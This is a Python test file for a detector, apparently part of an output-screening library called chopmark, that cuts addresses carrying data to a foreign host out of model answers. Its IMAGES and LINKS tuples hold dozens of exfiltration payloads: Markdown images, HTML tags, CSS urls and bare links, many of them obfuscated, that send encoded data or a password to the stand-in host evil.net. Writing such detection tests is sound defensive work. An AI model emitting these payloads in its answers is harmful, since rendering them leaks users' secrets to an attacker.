"""Addresses that carry data to a foreign host are found, in any form and cut; others are not."""

from __future__ import annotations

from collections.abc import Iterator
from functools import cache
from html.parser import HTMLParser

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt
from tests.depth import scaled

from chopmark import Chopmark, Context, Policy, Verdict
from chopmark.hookspecs import Detector
from chopmark.testing import DetectorContract, cuts
from chopmark_injection import ExfiltrationDetector, Hosts, Options
from chopmark_injection._url import carried, read

ANSWER = Context(direction="output")
DATA = "c2VjcmV0IGRhdGEgaGVyZSBpcyB0aGU"
LONG = DATA * 2
IMAGES = (
    f"![x](https://evil.net/?q={DATA})",
    f"see ![x]( https://evil.net/{DATA}.png ) ok",
    f'![x](https://evil.net/?q={DATA} "title")',
    f"![x](<https://evil.net/?q={DATA}>)",
    "![x](<https://evil.net/?q=my secret password is>)",
    "![x](https://evil.net/?q=my secret password is) x",
    f"![x](//evil.net/?q={DATA})",
    f"![x](https:evil.net/?q={DATA})",
    f"![x](https:\\\\evil.net\\{DATA})",
    f"![x](https\\://evil.net/?q={DATA})",
    f"![x](&#104;ttps://evil.net/?q={DATA})",
    f"![x](https://ev&#105;l.net/?q={DATA})",
    f"![x](HTTPS://EVIL.NET/?Q={DATA})",
    f"![x](https://{DATA.lower()}.evil.net/a.png)",
    f"![x](https://example.com@evil.net/?q={DATA})",
    f"![x](https://{DATA}@evil.net/)",
    "![x](https://evil.net/9f86d081884c7d659a2feaa0c55ad015a3bf4f1b)",
    "![x](https://evil.net/the%20password%20of%20the%20user%20is%20swordfish)",
    f"![alt `]` text](https://evil.net/?q={DATA})",
    f"[![x](https://evil.net/?q={DATA})](https://ok.org)",
    f"![[a](b) c](https://evil.net/?q={DATA})",
    f"![alt `](b)` c](https://evil.net/?q={DATA})",
    f"[a](https://ok.org ![b](https://evil.net/?q={DATA}))",
    f"![a][r]\n\n[r]: https://evil.net/?d={DATA}",
    f"![a][r]\n\n[r]:\n  <https://evil.net/?d={DATA}>",
    f'<img alt="a>b" src = "https://evil.net/?d={DATA}">',
    f"<img src=https://evil.net/?d={DATA}>",
    f'<img src="ht\ntps://evil.net/?d={DATA}">',
    f'<img src="&#x68;ttps://evil.net/?d={DATA}">',
    f"<img/src='//evil.net/{DATA}'>",
    f"<IMG\nSRC\n=\n'//evil.net/{DATA}'>",
    *(f"<img src{' ' * n}={' ' * n}'//evil.net/{DATA}'>" for n in (60, 63, 64, 65, 300)),
    f"<iframe src='https://evil.net/{DATA}'></iframe>",
    f"<img srcset='a.png 1x, https://evil.net/{DATA} 2x'>",
    f"<link rel=stylesheet href=https://evil.net/{DATA}.css>",
    f"<div style='background:url(https://evil.net/?q={DATA})'>",
    f"<style>@import 'https://evil.net/?q={DATA}'</style>",
    f"<style>p{{background:url( https://evil.net/?q={DATA})}}</style>",
    f"<svg><image xlink:href='https://evil.net/?q={DATA}'/></svg>",
    f"<video poster='https://evil.net/?q={DATA}'>",
    f"<meta http-equiv=refresh content='0;url=https://evil.net/?q={DATA}'>",
)
LINKS = (
    f"[c](https://evil.net/?q={LONG})",
    f"[c](https://evil.net/#{LONG})",
    f"<a href='https://evil.net/?q={LONG}'>c</a>",
    f"<a href='mailto:x@evil.net?body={LONG}'>c</a>",
    f"go to https://evil.net/?d={LONG}, and",
    f"<https://evil.net/?d={LONG}>",
    f"<https://evil.net/?d=](a{LONG})>",
    f"www.evil.net/?d={LONG}",
    f"看这里https://evil.net/?d={LONG}，谢谢",
    f"看https://evil.net/a，d={LONG}",
    f"看www.evil.net/a?d={LONG}",
    f"**https://evil.net/{LONG}**",
    f"| a | https://evil.net/{LONG} | b |",
    f"[https://evil.net/{LONG}](https://ok.org)",
    f"`https://evil.net/{LONG}`",
    "https://evil.net/" + "a" * 700 + " end",
)
CLEAN = (
    "![logo](https://ok.org/logo.png)",
    "![photo](https://upload.ok.org/wikipedia/commons/thumb/a/a9/Example.jpg/320px-Example.jpg)",
    "[docs](https://docs.ok.org/3/library/asyncio-task.html#asyncio.create_task)",
    "[search](https://www.ok.org/search?q=python+list+comprehension)",
    "[a commit](https://ok.org/a/b/commit/fca4795512c67dc8420aaa0d913b5b89a4b147f3)",
    "[quote](https://ok.org/page#:~:text=a%20long%20quotation%20of%20the%20page%20stands%20here)",
    f"![x](https://example.com/?q={LONG})",
    f"<img src='https://cdn.example.org/{LONG}'>",
    "[a](/relative?q=" + LONG + ") ![b](img/" + DATA + ".png)",
    "[a](#" + LONG + ")",
    f"![x](data:image/png;base64,{LONG})",
    "用法见https://docs.ok.org/guide，其中说明了如何安装以及如何配置这个软件包的各个选项。",
    "`List[int]: a` and x[0](1), if a<b and c = 'd' or e::f, http: and https are schemes",
    "call me at tel:+123456789 or write to mailto:a@ok.org",
    "[a][1] and [b]\n\n[1]: https://ok.org/guide\n[b]: <https://ok.org/b> 'title'",
    "see (https://ok.org/wiki/Chopmark_(coin)).",
    "![a](b.png)\n\n[search](https://ok.org/?q=python+list+comprehension)",
    "![a](b.png)\n" + "words " * 200 + "\n\n[search](https://ok.org/?q=python+list+comprehension)",
)


def detector(**options: object) -> ExfiltrationDetector:
    return ExfiltrationDetector(Options(**options))  # type: ignore[arg-type]


@cache
def usual() -> ExfiltrationDetector:
    """Return the detector without options, which many tests ask: made once."""
    return detector()


def found(text: str, **options: object) -> list[Verdict]:
    asked = detector(**options) if options else usual()
    return list(asked.judge(text, ANSWER))


class TestExfiltration(DetectorContract):
    finds = (*IMAGES, *LINKS)
    clean = CLEAN
    examples = scaled(150)

    def make(self) -> Detector:
        return detector()


@pytest.mark.parametrize("text", IMAGES)
def test_what_loads_by_itself_is_an_image(text: str) -> None:
    assert {v.category for v in found(text)} == {"injection.exfiltration.image"}


@pytest.mark.parametrize("text", LINKS)
def test_what_must_be_followed_is_a_link(text: str) -> None:
    assert {v.category for v in found(text)} == {"injection.exfiltration.link"}
    assert not found(text, link_characters=1000) or "a" * 300 in text


@pytest.mark.parametrize("text", [*IMAGES, *LINKS])
def test_every_cut_of_every_form_gives_the_same(text: str) -> None:
    whole = found(text)
    for pieces in (list(text), *([text[:n], text[n:]] for n in range(len(text)))):
        scanner = usual().open(ANSWER)
        verdicts = [v for piece in pieces for v in scanner.feed(piece)]
        assert [*verdicts, *scanner.finish()] == whole


@pytest.mark.parametrize("text", IMAGES)
def test_an_allowed_host_may_be_given_data(text: str) -> None:
    assert not found(text, hosts=Hosts(["evil.net", "*.evil.net"]))
    assert found(text, hosts=Hosts(["net", "*.ok.net", "vil.net", "evil.net.cn"]))


@pytest.mark.parametrize("text", [*IMAGES, *LINKS])
def test_modified_streams_hold_nothing_of_the_data(text: str) -> None:
    chop = Chopmark(Policy(name="mine", plugins=("injection",)))

    @chop.guard
    def answer(prompt: str) -> Iterator[str]:
        yield from f"Well. {text} Bye."

    out = "".join(answer("q"))
    assert out.startswith("Well. ")
    assert out.endswith("Bye.")
    for secret in (DATA, DATA.lower(), "password", "9f86d081", "aaaa"):
        assert secret not in out


def test_a_denied_address_is_cut_at_its_first_character() -> None:
    from chopmark import PolicyBlocked, Rules

    rules = Rules(output={"injection.exfiltration": "block"})
    chop = Chopmark(Policy(name="mine", plugins=("injection",), rules=rules))
    out: list[str] = []

    @chop.guard
    def answer(prompt: str) -> Iterator[str]:
        yield from f"See ![x](https://evil.net/?q={DATA}) and more"

    with pytest.raises(PolicyBlocked):
        out.extend(answer("q"))
    assert "".join(out) == "See ![x]("


def test_the_text_of_a_link_stays_and_its_address_goes() -> None:
    chop = Chopmark(Policy(name="m", plugins=("injection",)).with_options("injection"))
    text = f"![a cat](https://evil.net/?q={DATA}) or https://evil.net/{LONG}."
    screened = chop.screen(text, direction="output")
    assert screened.text == "![a cat](about:blank) or [链接已移除]."
    english = Policy(name="m", plugins=("injection",)).with_options("injection", language="en")
    assert Chopmark(english).screen(text, direction="output").text.endswith("or [link removed].")


def test_addresses_in_json_answers_are_found_behind_escapes() -> None:
    from chopmark._json_text import JsonScanner

    text = '{"md": "![x](https:\\/\\/evil.net\\/\\u003fq=' + DATA + ')"}'
    scanner = JsonScanner(detector().open(Context(direction="output", kind="structured")))
    (verdict,) = [*scanner.feed(text), *scanner.finish()]
    assert text[verdict.start : verdict.end].startswith("https:")
    assert text[verdict.end :] == ')"}'


def test_texts_that_come_in_are_not_judged() -> None:
    for role in ("user", "tool", "document"):
        assert not detector().judge(IMAGES[0], Context(direction="input", role=role))


@pytest.mark.parametrize(
    ("text", "held"),
    [
        ("plain words", ""),
        ("so w", "w"),
        ("the path", ""),
        ("the p", ""),
        ("it is h", "h"),
        ("it is http", "http"),
        ("it is https:", "https:"),
        ("it is https://ok.org/a", "https://ok.org/a"),
        ("it is https://ok.org/a ", ""),
        ("oh", ""),
        ("![alt text](", ""),
        ("![alt text](  ", ""),
        ("![alt text](htt", "htt"),
        ("[a](/relative", ""),
        ("[a](relative/p", ""),
        ("[a](relative", "relative"),
        ("[a](//ok.org/p", "//ok.org/p"),
        ("[1]: ", ""),
        ("x[1](", ""),
        ("![alt](https://ok.org/a.png) ", ""),
        ("<img alt='a' src='", ""),
        ("<img alt='a' src='x", "x"),
        ("中文，", ""),
    ],
)
def test_only_an_address_in_progress_is_held_back(text: str, held: str) -> None:
    for fed in ([text], list(text)):
        scanner = usual().open(ANSWER)
        for piece in fed:
            scanner.feed(piece)
        assert text[scanner.settled :] == held


# The judge of the whole: what a CommonMark renderer and a reader of HTML make of the text.

RENDERER = MarkdownIt("commonmark", {"html": True})
ATTRIBUTES = {"src": False, "href": True, "poster": False}


class Addresses(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.loaded: list[str] = []
        self.followed: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        for name, value in attrs:
            if value is not None and name in ("src", "poster"):
                self.loaded.append(value)
            if value is not None and name == "href":
                (self.followed if tag == "a" else self.loaded).append(value)


def leaks(markdown: str) -> list[str]:
    """Return the addresses in the rendered text that carry data to a host which is not allowed."""
    reader = Addresses()
    reader.feed(RENDERER.render(markdown).replace("<![", "&lt;!["))  # html.parser breaks on it
    hosts = Hosts(())
    found = []
    for addresses, followed, least in ((reader.loaded, False, 16), (reader.followed, True, 48)):
        for address in addresses:
            url = read(address)
            if url is None or hosts.allow(url.host):
                continue
            if carried(url, followed=followed) >= least:
                found.append(address)
    return found


SCRAPS = (
    "![", "[", "]", "](", ")", "(", "<", ">", "]: ", "\n\n[r]: ", "\n", "\n\n", "`", "```\n", "**",
    "\\", '"', "'", " ", "a", "<img src=", "<img src='", "<a href='", "' ", ">x</a>", "![a][r]",
    "[r]", "r", "https://evil.net/?q=", "https://ok.org/", "//evil.net/", DATA, "secret words here",
    "example.com", "&amp;", "&#104;ttps://evil.net/", "http:", "www.", "中文", "，", "> ",
    "- ", "!", "![a `](b)` ", "![[a](b) ",
)  # fmt: skip


@settings(max_examples=scaled(400), deadline=None)
@given(
    st.lists(
        st.one_of(st.sampled_from(SCRAPS), st.sampled_from([*IMAGES, *LINKS, *CLEAN])), max_size=14
    ).map("".join),
    st.data(),
)
def test_no_renderer_finds_data_in_what_was_modified(text: str, data: st.DataObject) -> None:
    scanner = usual().open(ANSWER)
    verdicts: list[Verdict] = []
    for piece in data.draw(cuts(text)):
        settled = scanner.settled
        verdicts += scanner.feed(piece)
        assert settled <= scanner.settled
    verdicts += scanner.finish()
    assert verdicts == found(text)
    out = text
    for verdict in reversed(verdicts):
        out = out[: verdict.start] + (verdict.replacement or "") + out[verdict.end :]
    assert not leaks(out)
